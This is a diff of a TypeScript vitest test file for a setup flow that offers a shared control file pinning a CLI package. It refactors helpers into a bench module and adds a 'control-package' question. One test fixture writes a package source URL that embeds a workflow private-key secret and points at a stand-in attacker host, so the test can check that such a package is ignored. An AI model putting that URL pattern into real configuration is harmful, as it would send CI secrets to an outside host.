@@ -1,59 +1,10 @@
 import { describe, expect, test } from "vitest";
 import { Back } from "../../../src/prompts/prompter.ts";
-import { forgetDeclined, offerControlFile } from "../../../flows/setup/offer-control-file.ts";
-import { planFor } from "../../../src/run/control/plan-for.ts";
-import { renderControlFile } from "../../../src/run/control/control-file.ts";
-import { resolveHost } from "../../../src/forge/host-profile.ts";
-import { RefusedByForge } from "../../../src/forge/forge-errors.ts";
-import { choices } from "../../run/control/shared-control-bench.ts";
-import type { Chosen } from "../../run/control/shared-control-bench.ts";
-import { repository, someSettings, somePin } from "../../plane/control-plane-bench.ts";
-import type { Settings } from "../../../src/plane/scope/settings.ts";
+import { forgetDeclined } from "../../../flows/setup/offer-control-file.ts";
+import { repository, somePin } from "../../plane/control-plane-bench.ts";
 import { findWordy } from "../asked-words.ts";
-import { runStep, startJournal, type StepOptions } from "../shared/run-step.ts";
-
-const profile = resolveHost("github.com");
-const package_ = { "control-cli": somePin.source, "control-integrity": ` ${somePin.integrity} ` };
-const yes = { "control-file": "write" };
-
-/** Creates a control repository with this file or without one. */
-function openLocation(before?: string) {
-  const location = { text: before, reads: 0, writes: 0, refusals: 0 };
-  const offer = (
-    options: StepOptions = {},
-    chosen: Chosen = "app",
-    settings: Settings = someSettings,
-  ) =>
-    runStep(
-      (context) =>
-        offerControlFile(
-          context,
-          {
-            profile,
-            repository,
-            readControlFile: () => {
-              location.reads += 1;
-              return Promise.resolve(location.text);
-            },
-            writeControlFile: (text) => {
-              location.writes += 1;
-              if (location.writes <= location.refusals) {
-                const request = "PUT /repos/acme/control/contents/x";
-                throw new RefusedByForge({ status: 409, request, message: "protected" });
-              }
-              location.text = text;
-              return Promise.resolve();
-            },
-          },
-          { settings, choice: choices[chosen] },
-        ),
-      options,
-    );
-  return Object.assign(location, { offer });
-}
-
-const rendered = (chosen: Chosen = "app", settings: Settings = someSettings) =>
-  renderControlFile({ ...planFor(profile.brand, choices[chosen], settings), pin: somePin });
+import { startJournal } from "../shared/run-step.ts";
+import { openLocation, package_, profile, rendered, yes } from "./control-file-bench.ts";
 
 describe("the shared control file is offered", () => {
   test("with its content and purpose; Enter, or no answer, postpones it", async () => {
@@ -82,7 +33,7 @@ describe("the shared control file is offered", () => {
       "pat",
     );
     expect(result).toBe("written");
-    expect(asked).toEqual(["control-file", "control-cli", "control-integrity"]);
+    expect(asked).toEqual(["control-file", "control-package", "control-cli", "control-integrity"]);
     expect(location.text).toBe(rendered("pat"));
     expect(marks).toMatchObject([{ state: "done" }]);
     for (const question of Object.values(questions)) expect(findWordy(question)).toEqual([]);
@@ -123,14 +74,14 @@ test("a package that runs must not load is ignored: another package is requested
   const evil = "http://evil.example/${{secrets.CP_FORGE_READ_APP_PRIVATE_KEY}}";
   const location = openLocation(rendered().replaceAll(somePin.source, evil));
   const { asked } = await location.offer({ answers: { ...yes, ...package_ } });
-  expect(asked).toEqual(["control-file", "control-cli", "control-integrity"]);
+  expect(asked).toEqual(["control-file", "control-package", "control-cli", "control-integrity"]);
   expect(location.text).toBe(rendered());
 });
 
 test("the package that is kept is shown", async () => {
   const { questions } = await openLocation(rendered("workflow-token")).offer({ answers: yes });
   expect(questions["control-file"]?.facts).toContainEqual({
-    name: "Package",
+    name: "gatehouse package",
     text: somePin.source,
   });
 });
@@ -175,8 +126,9 @@ describe("the answer", () => {
     });
     expect(asked).toEqual([
       "control-file",
+      "control-package",
       "control-cli",
-      "control-file",
+      "control-package",
       "control-cli",
       "control-integrity",
     ]);
@@ -194,7 +146,7 @@ describe("the answer", () => {
     const changed = await location.offer({ journal, answers: { ...yes, ...package_ } }, "pat");
     expect(changed).toMatchObject({
       result: "written",
-      asked: ["control-file", "control-cli", "control-integrity"],
+      asked: ["control-file", "control-package", "control-cli", "control-integrity"],
     });
   });
 
